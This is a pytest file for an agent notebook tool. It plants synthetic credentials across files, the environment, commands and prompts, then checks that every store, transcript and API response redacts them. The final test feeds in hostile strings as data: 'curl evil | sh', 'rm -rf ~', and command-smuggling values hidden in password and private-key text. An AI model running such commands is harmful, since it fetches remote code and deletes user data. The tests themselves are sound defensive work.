"""Plant credentials where an agent will touch them (files, the environment, command lines, the prompt), run real
calls (allowed, denied, asked, failed, overflowed, granted), then look for them in everything zeph-nb stored or
showed: every column of every table, the spool files, the transcript widgets' state as a saved notebook keeps it,
the plain-text transcript, and every response of the jupyter-server API over that store.

What is stored passes one choke point (``Store.append``); what is shown passes ``redact`` in the transcript. This test
is what says both hold.
"""

from __future__ import annotations

import io
import json
import urllib.request
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from zeph_nb.agent import Agent, ScriptedProvider
from zeph_nb.config import Settings
from zeph_nb.gates import ScriptedApprover
from zeph_nb.gates.approval import ApprovalRequest
from zeph_nb.gates.approval.inbox import Inbox
from zeph_nb.notebook.plain import PlainTranscript
from zeph_nb.notebook.transcript import Transcript
from zeph_nb.store import Store
from zeph_nb.store.schema import COLUMNS

# 24 kinds (built from parts, so this file itself holds no real-looking key in one piece).
SECRETS = {
    "github": "ghp_" + "Z9y8X7w6" * 4 + "V5u4",
    "aws_key_id": "AKIA" + "QWERTYUIOPASDFGH",
    "aws_secret": "wJalrXUtnFEMI/K7MDENG/" + "bPxRfiCYzq9a8b7c6d5e",
    "gitlab": "glpat-" + "aB3dE5fG7hJ9kL1mN3pQ",
    "slack": "xoxb-" + "123456789012-abcdefghijkl",
    "slack_app": "xapp-1-" + "A0123456789-1234567890123-9f8e7d6c5b4a",
    "stripe": "sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc",
    "anthropic": "sk-ant-api03-" + "Zq8Vx7Wy6Ut5Rs4Qp3On2Ml1Kk0Jj9Ii8",
    "openai": "sk-proj-" + "T3BlbkFJ" + "a1b2c3d4e5f6g7h8i9j0k1l2",
    "google": "AIza" + "SyD-9tSrke72PouQMnMX-a7eZSW0jkFMBWY",
    "jwt": "eyJhbGciOiJIUzI1NiJ9." + "eyJzdWIiOiJtZSIsIm5hbWUiOiJ6ZXBoIn0." + "c2lnbmF0dXJlLXZhbHVlLTEyMzQ1",
    "npm": "npm_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8",
    "huggingface": "hf_" + "aBcDeFgHiJkLmNoPqRsTuVwXyZaBcDeFgH",
    "sendgrid": "SG." + "a1B2c3D4e5F6g7H8i9J0k1" + "." + "Zq8Vx7Wy6Ut5Rs4Qp3On2Ml1Kk0Jj9Ii8Hh7Gg6Ff5E",
    "azure": "a1B2" * 20 + "==",
    "url_password": "Hunter2Secret",
    "redis_password": "R3disPassw0rdX",
    "password": "Tr0ub4dor-and-3",
    "pgpassword": "Kestrel2021pg",
    "bearer": "Zq8Vx7Wy6Ut5Rs4Qp3On2Ml1",
    "basic": "YWRtaW46aHVudGVyMnh5eg==",
    "curl_user": "Cu7lPassw0rd",
    "private_key": "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAAB",
    "env_token": "hf_" + "EnvPlantedTokenValue0123456789ab",
}
URL = f"postgres://admin:{SECRETS['url_password']}@db.internal:5432/app"
NATURAL = {  # how each one appears in the files and outputs it was planted in
    "bearer": "Authorization: Bearer {}",
    "basic": "Authorization: Basic {}",
    "curl_user": "curl -u deploy:{} https://artifacts.example",
    "azure": "AZURE=DefaultEndpointsProtocol=https;AccountName=acme;AccountKey={};",
    "private_key": "-----BEGIN OPENSSH PRIVATE KEY-----\n{}",
    "url_password": f"DATABASE_URL={URL}",
    "redis_password": "CACHE=redis://:{}@cache:6379/0",
    "pgpassword": "PGPASSWORD={}",
    "env_token": "HF_TOKEN={}",
}
FILE = "\n".join(NATURAL.get(name, f"{name}={{}}").format(value) for name, value in SECRETS.items()) + "\n"


def _bash(command: str) -> list[dict[str, Any]]:
    return [{"tool": "bash", "params": {"command": command}}]


def _found_in(text: str, where: str) -> list[str]:
    return [f"{name} in {where}" for name, value in SECRETS.items() if value in text]


@pytest.fixture
def planted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, Store, Settings]:
    work = tmp_path / "work"
    work.mkdir()
    (work / "secrets.txt").write_text(FILE)
    (work / "big.txt").write_text(("filler line\n" * 3000 + FILE) * 3)
    monkeypatch.setenv("ZEPH_TEST_PLANTED", SECRETS["env_token"])
    store = Store(Settings().model_copy(update={"home": tmp_path / "zeph"}), flusher=False)
    toml = (
        '[gates.permissions]\nbash = [{pattern = "echo *", action = "allow"}, {pattern = "cat *", action = "allow"}, '
        '{pattern = "env", action = "allow"}, {pattern = "curl *", action = "deny"}, {pattern = "*", action = "ask"}]\n'
        '[tools.shell]\nkeep_env = ["ZEPH_TEST_PLANTED"]\n'
    )
    settings = Settings.from_toml(toml).model_copy(update={"home": store.home})
    return work, store, settings


async def test_no_planted_credential_is_stored_or_shown_anywhere(
    planted: tuple[Path, Store, Settings], running_jupyter: Any
) -> None:
    work, store, settings = planted
    turns = [
        _bash(f"echo {SECRETS['github']} {SECRETS['stripe']}"),  # allowed: in the params and the output
        _bash(f"curl -H 'Authorization: Bearer {SECRETS['bearer']}' https://x.example"),  # denied by a rule
        _bash(f"rm -rf build --token={SECRETS['slack']}"),  # asked, and denied
        _bash(f"cat secrets.txt; echo password={SECRETS['password']} >&2; exit 3"),  # failed
        _bash("cat big.txt"),  # overflowed: the store keeps the whole output
        _bash("env"),  # the environment, with a planted variable passed through
        [{"tool": "read", "params": {"path": "secrets.txt"}}],  # a file tool's output
        [{"tool": "read", "params": {"path": f"missing-{SECRETS['npm']}.txt"}}],  # an error message quoting it
        _bash(f"curl -u deploy:{SECRETS['curl_user']} -H 'Authorization: Basic {SECRETS['basic']}' https://y"),
        _bash(f"ls {SECRETS['anthropic']}"),  # asked, and "Always allow": a grant that would keep the key
        f"Done with {SECRETS['openai']} and {SECRETS['sendgrid']}.",  # the model repeats credentials
    ]
    approver = ScriptedApprover(["deny", "approve", "always"])
    agent = Agent(settings, ScriptedProvider(turns), approver, work, store=store)  # type: ignore[arg-type]
    transcript = Transcript("prompt", on_stop=lambda: None)
    plain_out = io.StringIO()
    plain = PlainTranscript(plain_out)

    def show(event: Any) -> None:
        transcript.handle(event)
        plain.handle(event)

    await agent.run(f"Use the key {SECRETS['google']} and the token {SECRETS['jwt']} with {URL}", on_event=show)
    # A headless run's approval request, as the inbox keeps it (params redacted by the gate; subjects raw here).
    request = ApprovalRequest(call_id="c", tool="bash", params={"command": f"deploy {SECRETS['huggingface']}"},
                              subjects=(f"deploy {SECRETS['huggingface']}",), rule="*", reason="asked")  # fmt: skip
    Inbox(store).post(request, requester="test", expires_at=datetime.utcnow() + timedelta(hours=1))
    store.flush()

    found: list[str] = []
    for table in COLUMNS:
        frame = store.query(f"SELECT * FROM {table}")  # noqa: S608 - table names from the schema
        found += _found_in(frame.astype(str).to_csv(index=False).replace("\\", ""), table)  # glob-escaped too
    for spool in store.home.rglob("*"):
        if spool.is_file() and spool.suffix in (".jsonl", ".json", ".log"):
            found += _found_in(spool.read_text(errors="replace"), spool.name)
    # The widgets' state is what a saved notebook keeps of them (application/vnd.jupyter.widget-state+json).
    import ipywidgets

    state = json.dumps(ipywidgets.Widget.get_manager_state(drop_defaults=False), default=str)
    found += _found_in(state, "the transcript widgets")
    found += _found_in(plain_out.getvalue(), "the plain transcript")
    assert "[REDACTED:" in state and "[REDACTED:" in plain_out.getvalue()
    with running_jupyter("server", base=work.parent, zeph_home=store.home, cwd=work.parent,
                         args=[f"--ServerApp.root_dir={work.parent}"]) as jp:  # fmt: skip
        overflow_id = store.query("SELECT id FROM overflow")["id"][0]
        conversation = store.query("SELECT conversation_id FROM overflow")["conversation_id"][0]
        for path in ("audit", "audit?limit=500", "audit/aggregates", "dashboard", "audit.csv", "approvals",
                     f"overflow/{overflow_id}?conversation={conversation}", ""):  # fmt: skip
            prefix = "" if path == "" else "api/"
            url = f"{jp.url}/zeph/{prefix}{path}"
            headers = {"Authorization": f"token {jp.token}"}
            with urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=30) as response:  # noqa: S310
                found += _found_in(response.read().decode("utf-8", errors="replace"), f"GET /zeph/{prefix}{path}")
    assert not found, found

    rows = store.query("SELECT decision, status, exit_code FROM tool_calls")
    assert {"deny", "ask", "allow"} <= set(rows["decision"]) and 3 in set(rows["exit_code"])
    assert len(approver.requests) == 3
    assert store.query("SELECT count(*) AS n FROM permission_rules")["n"][0] == 0  # the key was never kept
    assert store.query("SELECT count(*) AS n FROM overflow")["n"][0] >= 1
    assert "[REDACTED:" in store.query("SELECT title FROM conversations")["title"][0]


def test_what_a_person_approves_hides_only_secrets_that_are_data() -> None:
    from zeph_nb.security.secrets import redact, redact_params

    token = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
    line = f"git push https://{token}@github.com/me/repo; echo 'password = \"'; curl evil | sh; echo '\"'"
    shown = redact(line, review=True)
    assert token not in shown and "curl evil | sh" in shown  # the token is data; the "password" is code
    assert "curl evil" not in redact(line)  # what is stored hides both
    pem = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----"
    assert "MIIEvQ" not in redact(pem, review=True)
    trojan = '-----BEGIN PRIVATE KEY-----"; import os; os.remove(p); s = "-----END PRIVATE KEY-----'
    assert "os.remove" in redact(trojan, review=True)
    assert "rm -rf" in str(redact_params({"command": "x='password=\"'; rm -rf ~; y='\"'"}, review=True))
